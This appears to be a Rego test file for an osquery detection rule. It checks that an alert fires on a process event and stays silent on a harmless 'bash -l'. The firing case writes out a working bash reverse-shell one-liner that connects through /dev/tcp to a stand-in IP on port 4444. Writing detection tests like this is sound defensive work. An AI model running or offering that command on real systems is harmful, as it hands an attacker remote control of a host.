package osquery.reverse_shell_test

import data.osquery.reverse_shell

test_it_is_told if count(reverse_shell.alert) == 1 with input as {"osquery": {"host_identifier": "hostA", "action": "added", "columns": {"path": "/usr/bin/bash", "cmdline": "bash -i >& /dev/tcp/198.51.100.7/4444 0>&1"}}}

test_its_harmless_sister_is_not_told if count(reverse_shell.alert) == 0 with input as {"osquery": {"host_identifier": "hostA", "action": "added", "columns": {"path": "/usr/bin/bash", "cmdline": "bash -l"}}}
